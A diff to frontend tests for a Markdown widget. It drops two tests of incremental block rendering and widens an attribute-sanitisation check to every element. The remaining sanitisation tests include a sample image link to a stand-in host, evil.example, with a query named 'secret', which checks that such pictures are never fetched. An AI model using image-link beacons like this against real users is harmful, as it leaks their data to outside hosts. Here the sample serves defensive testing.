@@ -5,7 +5,6 @@ import { LineChart } from '../../src/widgets/chart/line-chart';
 import { Ring } from '../../src/widgets/chart/ring';
 import { ErrorBoundary } from '../../src/widgets/error-boundary';
 import { LoadingOverlay } from '../../src/widgets/loading-overlay';
-import { createBlockReader } from '../../src/widgets/markdown/blocks';
 import { Markdown } from '../../src/widgets/markdown/markdown';
 import { SkeletonLines } from '../../src/widgets/skeleton';
 import { EmptyState, ErrorState, NoPermissionState } from '../../src/widgets/states';
@@ -96,7 +95,7 @@ describe('Markdown', () => {
     );
     expect('hacked' in globalThis).to.equal(false);
     expect(box.querySelector('script, iframe, form, input, style, svg, img')).to.equal(null);
-    for (const element of box.querySelectorAll('.by-markdown-block *')) {
+    for (const element of box.querySelectorAll('*')) {
       for (const name of element.getAttributeNames()) {
         expect([
           'href',
@@ -133,32 +132,6 @@ describe('Markdown', () => {
   it('fetches no picture: a note stands in its place', async () => {
     const box = await rendered('![leak](https://evil.example/x.png?q=secret)');
     expect(box.textContent).to.include('图片已隐藏：leak');
-  });
-
-  it('a growing text draws its last block again and leaves the others alone', async () => {
-    const made = await stage(<Markdown source={'first\n\nsec'} busy />);
-    await until('rendered', () => made.root.querySelectorAll('.by-markdown-block p').length === 2);
-    const [first, second] = Array.from(made.root.querySelectorAll('.by-markdown-block p'));
-    await made.show(<Markdown source={'first\n\nsecond **bold**\n\n- item'} busy />);
-    const after = Array.from(made.root.querySelectorAll('.by-markdown-block > *'));
-    expect(after[0] === first).to.equal(true);
-    expect(after[1] === second).to.equal(false);
-    expect(after.map((each) => each.textContent.trim())).to.deep.equal([
-      'first',
-      'second bold',
-      'item',
-    ]);
-    expect(made.root.querySelector('.by-markdown')?.getAttribute('aria-busy')).to.equal('true');
-  });
-
-  it('read piece by piece gives the blocks of the whole', () => {
-    const whole =
-      '# T\n\npara one\nstill\n\n- a\n\n- b\n  1. c\n\n```js\nlet x\n\nlet y\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n> quote\n\nlast';
-    const growing = createBlockReader();
-    for (let length = 1; length < whole.length; length += 3) growing.read(whole.slice(0, length));
-    const types = (reader: ReturnType<typeof createBlockReader>) =>
-      reader.read(whole).map((block) => [block.tokens[0]?.type, block.raw.trim()]);
-    expect(types(growing)).to.deep.equal(types(createBlockReader()));
   });
 
   it('has no axe findings, light and dark', async () => {
